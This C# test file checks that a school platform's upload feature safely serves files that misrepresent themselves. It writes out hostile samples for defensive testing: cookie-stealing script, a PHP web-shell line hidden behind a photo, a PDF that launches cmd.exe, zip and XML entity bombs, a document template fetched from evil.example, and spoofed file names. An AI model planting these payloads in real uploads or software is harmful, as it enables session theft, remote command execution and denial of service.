using System.Buffers.Binary;
using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using ClassHub.Media;
using ImageMagick;
using Microsoft.EntityFrameworkCore;

namespace ClassHub.Web.Tests.Media;

/// <summary>Files that are not what they say, brought by a teacher's own form and opened by a pupil: each leaves as a download, or as a picture that was made anew.</summary>
public sealed class CorpusTests(MediaSchool school) : IClassFixture<MediaSchool>
{
    private const string Script = "<html><body onload=alert(1)><script>alert(document.cookie)</script></body></html>";

    private static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create))
            foreach (var (name, content) in entries)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        return stream.ToArray();
    }

    /// <summary>An archive that names the same million noughts again and again (after David Fifield's overlapping bomb): a terabyte, for whoever unpacks it.</summary>
    private static byte[] Overlapping(int names)
    {
        var zip = Zip(("noughts", new byte[1_000_000]));
        var end = zip.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
        var start = BinaryPrimitives.ReadInt32LittleEndian(zip.AsSpan(end + 16));
        var all = new MemoryStream();
        all.Write(zip.AsSpan(0, start));
        for (var i = 0; i < names; i++) all.Write(zip.AsSpan(start, end - start));
        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(end + 8), ushort.MaxValue);
        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(end + 10), ushort.MaxValue);
        BinaryPrimitives.WriteInt32LittleEndian(zip.AsSpan(end + 12), names * (end - start));
        all.Write(zip.AsSpan(end));
        return all.ToArray();
    }

    private static byte[] Bytes(string text) => Encoding.Latin1.GetBytes(text);
    private static byte[] Png() => Studio.Photo(64, 64, format: MagickFormat.Png);

    public static readonly TheoryData<string, string> Items = new()
    {
        { "U03 a page called a photo", "holiday.jpg" },
        { "U03 a page called a document", "letter.pdf" },
        { "U03 a page called a note", "notes.txt" },
        { "U04 a moving picture that is a script", "fun.gif" },
        { "U04 a document that is a page", "worksheet.pdf" },
        { "U04 a photo with a program behind it", "me.jpg" },
        { "U04 an archive before a picture", "art.png" },
        { "U04 a picture before an archive", "art.png" },
        { "U04 a page before a document", "worksheet.pdf" },
        { "U05 an archive of a thousand million noughts in archives", "42.zip" },
        { "U05 an archive of ten thousand names", "many.zip" },
        { "U05 an archive of a million names for the same noughts", "overlap.zip" },
        { "U07 an essay with a program in it", "essay.docm" },
        { "U07 an essay that asks the network", "essay.docx" },
        { "U07 a table of a billion laughs", "table.xlsx" },
        { "a drawing that is a script", "drawing.svg" },
        { "U17 a document that opens programs", "form.pdf" },
        { "F02 a name that reads backwards", "photo\u202Egpj.exe" },
        { "F02 a name with letters that nobody sees", "ho\u200Bmework\uFEFF.exe" },
        { "F02 a name in letters that look like others", "p\u0430ypal.html" },
        { "F06 a name of dots", "..." },
        { "F07 a program called a photo", "x.jpg.exe" },
        { "F07 a photo in capitals", "X.JPG" },
        { "a book that is a page", "book.xhtml" },
        { "a shortcut", "Homework.url" },
    };

    private static byte[] Content(string item) => item switch
    {
        "U04 a moving picture that is a script" => Bytes("GIF89a/*\x01\x00\x00\x00\x00*/=1;alert(1);"),
        "U04 a document that is a page" or "U17 a document that opens programs" => Bytes("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 72 72]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n" + Script),
        "U04 a photo with a program behind it" => [.. Studio.Photo(64, 64), .. Bytes("<?php system($_GET['c']); ?>" + Script)],
        "U04 an archive before a picture" => [.. Zip(("a.txt", [1, 2, 3])), .. Png()],
        "U04 a picture before an archive" => [.. Png(), .. Zip(("a.txt", Bytes(Script)))],
        "U04 a page before a document" => [.. Bytes(Script), .. Bytes("%PDF-1.7\n%%EOF\n")],
        "F07 a photo in capitals" => Studio.Photo(64, 64),
        "U05 an archive of a thousand million noughts in archives" => Zip(("lib.zip", Zip(("zeros", new byte[20_000_000]))), ("lib2.zip", Zip(("zeros", new byte[20_000_000])))),
        "U05 an archive of a million names for the same noughts" => Overlapping(1_000_000),
        "U05 an archive of ten thousand names" => Zip([.. Enumerable.Range(0, 10_000).Select(i => ($"{i.ToString(CultureInfo.InvariantCulture)}.txt", Array.Empty<byte>()))]),
        "U07 an essay with a program in it" => Zip(("[Content_Types].xml", Bytes("<Types/>")), ("word/document.xml", Bytes("<w/>")), ("word/vbaProject.bin", Bytes("macro"))),
        "U07 an essay that asks the network" => Zip(("[Content_Types].xml", Bytes("<Types/>")), ("word/_rels/settings.xml.rels", Bytes("<Relationships><Relationship TargetMode=\"External\" Target=\"http://evil.example/t.dotm\"/></Relationships>"))),
        "U07 a table of a billion laughs" => Zip(("xl/workbook.xml", Bytes("<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><l>&c;</l>"))),
        "a drawing that is a script" => Bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>"),
        "a shortcut" => Bytes("[InternetShortcut]\r\nURL=file:///c:/windows/system32/cmd.exe\r\n"),
        _ => Bytes(Script),
    };

    [Theory, MemberData(nameof(Items))]
    public async Task What_is_not_what_it_says_is_kept_and_is_never_run(string item, string name)
    {
        var content = Content(item);
        var file = await SendAsync(content, name);

        using var amira = await school.Site.SignedInAsync("Haddad");
        var (response, bytes) = await amira.FileAsync("/files/" + file.Key);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("sandbox; default-src 'none'", response.Headers.GetValues("Content-Security-Policy").Single());
        Assert.DoesNotContain(response.Content.Headers.ContentType!.MediaType, new[] { "text/html", "application/xhtml+xml", "image/svg+xml", "text/xml", "application/javascript" });
        var shown = response.Content.Headers.ContentDisposition.FileNameStar ?? response.Content.Headers.ContentDisposition.FileName!;
        Assert.DoesNotContain(shown, c => char.IsControl(c) || c is '\u202E' or '/' or '\\');
        if (item.StartsWith("U03", StringComparison.Ordinal) && name != "notes.txt") Assert.Contains("but we cannot tell what it is", await school.PageAsync(file), StringComparison.Ordinal);
        // A picture leaves without what hangs behind it; everything else as it came.
        if (file.ContentType.StartsWith("image/", StringComparison.Ordinal)) Assert.True(bytes.AsSpan().IndexOf("<?php"u8) < 0 && bytes.AsSpan().IndexOf("<script>"u8) < 0);
        else Assert.Equal(content, bytes);

        await school.PrepareAsync();
        foreach (var rung in (await school.RungsAsync(file)).All.Where(r => r.Key != file.Key))
        {
            var (made, rendition) = await amira.FileAsync("/files/" + rung.Key);
            Assert.StartsWith("image/", made.Content.Headers.ContentType!.MediaType, StringComparison.Ordinal);
            Assert.True(rendition.AsSpan().IndexOf("<script>"u8) < 0 && rendition.AsSpan().IndexOf("<?php"u8) < 0);
        }
    }

    public static readonly TheoryData<string> OddPictures = ["cut in half", "a wrong checksum", "a colour profile of three megabytes", "sixteen bits a colour", "printers' colours", "one point", "a row of points"];

    private static byte[] OddPicture(string how)
    {
        switch (how)
        {
            case "cut in half": return Studio.Photo(800, 600)[..2_000];
            case "a wrong checksum":
                var png = Studio.Photo(300, 200, format: MagickFormat.Png);
                png[^20] ^= 0x55;
                return png;
            case "a colour profile of three megabytes":
                var photo = Studio.Photo(300, 200);
                var profile = Enumerable.Range(1, 48).SelectMany(part => (byte[])[0xFF, 0xE2, 0xFF, 0xFF, .. "ICC_PROFILE\0"u8, (byte)part, 48, .. new byte[65_533 - 14]]);
                return [.. photo[..2], .. profile, .. photo[2..]];
            case "sixteen bits a colour": return Studio.Photo(300, 200, format: MagickFormat.Png48);
            case "printers' colours": return Studio.Photo(300, 200, more: p => p.ColorSpace = ColorSpace.CMYK);
            case "one point": return Studio.Photo(2, 1);
            default: return Studio.Photo(16_000, 1);
        }
    }

    [Theory, MemberData(nameof(OddPictures))]
    public async Task U09_An_odd_picture_is_shown_made_anew_or_not_at_all(string how)
    {
        var file = await SendAsync(OddPicture(how), "odd.jpg");

        await school.PrepareAsync();

        Assert.Contains("odd", await school.PageAsync(file), StringComparison.Ordinal);
        foreach (var rung in (await school.RungsAsync(file)).All.Where(r => r.Key != file.Key))
        {
            using var shown = new MagickImage(await school.BytesAsync("/files/" + rung.Key));
            Assert.True(shown is { Width: > 0, Depth: <= 8 } && shown.GetColorProfile() is null && shown.ColorSpace is ColorSpace.sRGB or ColorSpace.Gray);
        }
        Assert.NotEmpty(await school.BytesAsync("/files/" + file.Key));
    }

    [Theory]
    [InlineData("text/html")]
    [InlineData("image/svg+xml")]
    [InlineData("application/javascript; charset=utf-7")]
    public async Task U14_What_the_sender_says_it_is_counts_for_nothing(string said)
    {
        var file = await SendAsync(Png(), "picture.html", said);

        Assert.Equal("image/png", file.ContentType);
        Assert.EndsWith(".png", file.Name, StringComparison.Ordinal);
    }

    [Fact]
    public async Task U14_A_part_with_two_names_is_what_its_bytes_are()
    {
        using var okafor = await school.Site.SignedInAsync("Okafor");
        var form = Form(await okafor.TokenAsync());
        var part = new ByteArrayContent(Png());
        part.Headers.TryAddWithoutValidation("Content-Disposition", "form-data; name=\"Form.Files\"; filename=\"one.png\"; filename=\"two.exe\"");
        form.Add(part);

        var answer = await okafor.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/classes/{school.ClassId}/posts/new") { Content = form });

        Assert.InRange((int)answer.Status, 300, 499);
        if (answer.Status != HttpStatusCode.Redirect) return;
        var file = await school.Site.WithDbAsync(db => db.Files.OrderByDescending(f => f.Id).FirstAsync());
        Assert.True(file.ContentType == "image/png" && file.Name.EndsWith(".png", StringComparison.Ordinal), file.Name);
    }

    [Fact]
    public async Task U14_A_form_of_very_many_parts_or_parts_without_names_is_refused_in_words()
    {
        using var okafor = await school.Site.SignedInAsync("Okafor");
        var before = await school.Site.WithDbAsync(db => db.Posts.CountAsync());
        foreach (var parts in new[] { 21, 10_000 })
        {
            var form = Form(await okafor.TokenAsync());
            for (var i = 0; i < parts; i++) form.Add(new ByteArrayContent([1, 2, 3]), "Form.Files", $"{i.ToString(CultureInfo.InvariantCulture)}.bin");
            var answer = await okafor.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/classes/{school.ClassId}/posts/new") { Content = form });
            Assert.InRange((int)answer.Status, 400, 499);
            Assert.DoesNotContain("Exception", answer.Body, StringComparison.Ordinal);
        }
        var nameless = Form(await okafor.TokenAsync());
        var part = new ByteArrayContent([1, 2, 3]);
        part.Headers.ContentDisposition = new ContentDispositionHeaderValue("form-data");
        nameless.Add(part);
        Assert.InRange((int)(await okafor.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/classes/{school.ClassId}/posts/new") { Content = nameless })).Status, 200, 499);

        Assert.InRange(await school.Site.WithDbAsync(db => db.Posts.CountAsync()) - before, 0, 1);
    }

    private static MultipartFormDataContent Form(string token) => new()
    {
        { new StringContent(token), "_form" },
        { new StringContent("Material"), "Form.Kind" },
        { new StringContent("Odd files"), "Form.Title" },
        { new StringContent("true"), "Form.ForAll" },
        { new StringContent("Now"), "Form.Goes" },
    };

    /// <summary>Through the form, as a browser without a script sends it.</summary>
    private async Task<StoredFile> SendAsync(byte[] content, string name, string type = "application/octet-stream")
    {
        using var okafor = await school.Site.SignedInAsync("Okafor");
        var form = Form(await okafor.TokenAsync());
        var file = new ByteArrayContent(content);
        file.Headers.TryAddWithoutValidation("Content-Type", type);
        form.Add(file, "Form.Files", name);
        var answer = await okafor.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/classes/{school.ClassId}/posts/new") { Content = form });
        Assert.True(answer.Status == HttpStatusCode.Redirect, answer.Main);
        return await school.Site.WithDbAsync(db => db.Files.OrderByDescending(f => f.Id).FirstAsync());
    }
}
